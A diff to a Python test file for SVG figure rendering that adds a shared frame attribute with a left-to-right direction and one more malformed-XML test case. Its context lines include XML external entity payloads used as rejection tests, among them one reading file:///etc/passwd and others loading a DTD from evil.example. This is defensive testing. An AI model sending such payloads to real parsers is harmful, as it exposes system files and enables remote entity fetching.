@@ -13,6 +13,7 @@ from kitapsha.model import Kind, Segment
 from kitapsha.problems import Place, Problem
 
 NS = 'xmlns="http://www.w3.org/2000/svg"'
+FRAME = 'class="drawing" direction="ltr"'
 
 
 def svg(inside: str, root: str = "") -> str:
@@ -43,7 +44,7 @@ def shown(text: str, words: Given | None = None, alt: str = "Alt", prefix: str =
 def inside(html: str) -> str:
     """What a localized drawing holds, without the frame that all have."""
     match = re.fullmatch(
-        rf'<svg {NS}(?P<root>[^>]*) class="drawing" role="img" aria-label="[^"]*"><title>[^<]*</title>(?P<in>.*)</svg>',
+        rf'<svg {NS} {FRAME} role="img" aria-label="[^"]*"><title>[^<]*</title>(?P<in>.*)</svg>',
         html,
         re.DOTALL,
     )
@@ -91,11 +92,11 @@ def test_a_label_has_its_line():
 def test_the_frame():
     html = shown(svg("<path d='M0 0'/>", ' viewBox="0 0 9 9" width="9" height="9" x="1"'), alt='A "jar" & lid')
     assert html == (
-        f'<svg {NS} viewBox="0 0 9 9" class="drawing" role="img" aria-label="A &quot;jar&quot; &amp; lid">'
+        f'<svg {NS} viewBox="0 0 9 9" {FRAME} role="img" aria-label="A &quot;jar&quot; &amp; lid">'
         '<title>A "jar" &amp; lid</title><path d="M0 0"/></svg>'
     )
     assert 'width="9"' in shown(svg("", ' width="9"'))
-    assert shown(svg("<g/>"), alt="") == f'<svg {NS} class="drawing"><g/></svg>'
+    assert shown(svg("<g/>"), alt="") == f"<svg {NS} {FRAME}><g/></svg>"
 
 
 @pytest.mark.parametrize(
@@ -251,6 +252,7 @@ BROKEN = [
     ("<svg/>", "figure-syntax"),
     ("<html xmlns='http://www.w3.org/1999/xhtml'/>", "figure-syntax"),
     (f'<!DOCTYPE svg [<!ENTITY x "y">]>{svg("<text>&x;</text>")}', "figure-syntax"),
+    ('<!DOCTYPE svg [<!ENTITY x "y">]>' + svg("<text x='&x;'/>"), "figure-syntax"),
     (f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{svg("<text>&x;</text>")}', "figure-syntax"),
     (f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>{svg("<text>&y;</text>")}', None),
     (f'<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">{svg("<text>&y;</text>")}', "figure-syntax"),
